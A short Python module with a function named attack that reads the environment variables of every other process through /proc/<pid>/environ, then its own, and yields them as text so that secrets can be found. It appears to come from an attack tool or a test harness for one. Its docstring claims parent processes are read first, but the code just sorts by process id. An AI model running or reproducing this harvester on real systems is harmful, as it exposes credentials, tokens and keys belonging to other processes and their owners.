"""Looks for secrets in the environment of every process in sight, its own parents first."""

import os


def attack(targets):
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        if int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                yield file.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            pass
    yield " ".join(os.environ.values())
